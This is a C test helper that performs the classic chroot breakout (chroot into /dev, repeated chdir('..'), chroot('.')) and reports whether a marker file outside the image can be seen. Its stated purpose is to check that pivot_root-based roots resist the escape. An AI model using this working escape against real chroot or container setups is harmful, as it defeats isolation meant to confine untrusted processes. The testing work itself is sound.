/*
 * escape.c: try to get out of a root file system the classic way.
 *
 *     usage: escape MARKER
 *
 * A process that may call chroot(2) and whose current folder is outside its
 * root walks up with "..", past its root: the kernel stops a walk at the
 * process's root only when the walk passes through it.  So: chroot into a
 * folder below the current one, which leaves the current one outside the
 * new root; chdir("..") until the walk can go no higher, at the top of the
 * mount namespace; chroot(".") there.  After chroot(2) that top is the
 * machine's root.  After pivot_root(2), with the old root detached, it is
 * the image's own: there is nothing above it to reach.
 *
 * Prints "escape root holds NAME...", the names in the root it ended in,
 * sorted, and "escape marker MARKER present|absent", whether the file
 * MARKER (a path outside the image) can be seen from there; a step that
 * fails prints "escape failed STEP: REASON".  Exit status: 0, 1 when a step failed, 2
 * for a usage error.  Written for the tests; never run it outside them.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Prints "escape failed STEP: REASON"; returns 1. */
static int failed(const char *step)
{
	printf("escape failed %s: %s\n", step, strerror(errno));
	return 1;
}

int main(int argc, char *argv[])
{
	struct dirent **names;
	int n;

	if (argc != 2) {
		fprintf(stderr, "usage: escape MARKER\n");
		return 2;
	}
	/* Any folder below "/" will do; every root the workbook makes has a
	 * /dev. */
	if (chdir("/") == -1)
		return failed("chdir /");
	if (chroot("/dev") == -1)
		return failed("chroot /dev");
	/* The current folder, the old "/", is now outside the root: ".." is
	 * no longer stopped there.  64 steps are more than any tree holds. */
	for (int i = 0; i < 64; i++)
		if (chdir("..") == -1)
			return failed("chdir ..");
	if (chroot(".") == -1)
		return failed("chroot .");
	n = scandir("/", &names, NULL, alphasort);
	if (n == -1)
		return failed("scandir /");
	printf("escape root holds");
	for (int i = 0; i < n; i++)
		if (names[i]->d_name[0] != '.')
			printf(" %s", names[i]->d_name);
	printf("\n");
	printf("escape marker %s %s\n", argv[1],
	       access(argv[1], F_OK) == 0 ? "present" : "absent");
	return 0;
}
